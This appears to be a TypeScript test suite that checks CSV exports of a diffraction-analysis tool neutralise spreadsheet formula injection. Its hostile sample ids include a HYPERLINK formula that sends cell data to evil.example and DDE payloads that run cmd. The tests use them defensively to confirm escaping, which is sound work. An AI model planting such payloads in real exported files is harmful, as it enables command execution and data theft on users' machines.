// CSV formula injection (issue 11, minor): `collectionScoresCsv` wrote sample ids such as
// `=HYPERLINK(…)` or `+cmd|' /C calc'!A0` as they came, so opening the export in a spreadsheet
// ran them. Every CSV Latent XRD writes goes through one cell rule now: a text cell starting
// with = + - @ TAB or CR gets a leading apostrophe (OWASP), numbers stay numbers (negative ones
// included), and quotes, commas and line breaks (CR too) are quoted.
import assert from 'node:assert/strict';
import type { Collection } from '../../src/core/formats/collection';
import type { PatternScore } from '../../src/core/model/score';
import { collectionScoresCsv } from '../../src/core/report/scores-csv';
import { csvLine } from '../../src/core/report/csv';

/** RFC 4180 records, to read back exactly what a spreadsheet would get. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  return rows;
}

const HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

function collection(ids: string[]): Collection {
  return {
    title: 'hostile',
    kind: 'library',
    twoTheta: Float64Array.from([20, 21]),
    samples: ids.map((id, i) => ({ id, x: -12.5 + i, y: -3, intensity: Float64Array.from([1, 2]) })),
  } as unknown as Collection;
}

describe('adversarial: CSV exports neutralise formulas', () => {
  it('collectionScoresCsv: hostile sample ids arrive as text; negative numbers stay numbers', () => {
    const ids = [...HOSTILE_IDS, '-1.5', 'plain, with "quotes"', 'line\r\nbreak'];
    const score = { pValue: 0.5, bceExcess: -0.25, bce: 0.1, mse: 0.01, nearestPhase: '=Ni', latent: [-1, 2] } as unknown as PatternScore;
    const text = collectionScoresCsv(collection(ids), { samples: ids.map(() => ({ verdict: 'known' })) }, ids.map(() => score));
    const [header, ...rows] = parseCsv(text);
    assert.equal(rows.length, ids.length, text);
    for (const [i, row] of rows.entries()) {
      const id = ids[i];
      if (HOSTILE_IDS.includes(id)) assert.equal(row[0], `'${id}`, `row ${i}: ${JSON.stringify(row[0])}`);
      else assert.equal(row[0], id);
      assert.equal(row[1], String(-12.5 + i), 'a negative coordinate is a number');
      assert.equal(row[2], '-3');
      const column = (name: string) => row[header.indexOf(name)];
      assert.equal(column('bce_excess'), '-0.25', 'a negative error is a number');
      assert.equal(column('nearest_phase'), "'=Ni", 'a phase name from a model is text too');
      assert.equal(column('z1'), '-1');
      for (const cell of row) assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?![\d.])/, `row ${i}: ${JSON.stringify(cell)} reaches the spreadsheet as a formula`);
    }
  });

  it('csvLine: only cells a spreadsheet would evaluate are changed', () => {
    assert.equal(csvLine(['-1.5', '+2', '-1e-3', -4, 'a-b', '']), '-1.5,+2,-1e-3,-4,a-b,');
    assert.equal(csvLine(['-', '=', '@x', '- 5']), "'-,'=,'@x,'- 5");
    assert.equal(csvLine(['a\rb']), '"a\rb"', 'a carriage return inside a cell is quoted, or it ends the row');
  });
});
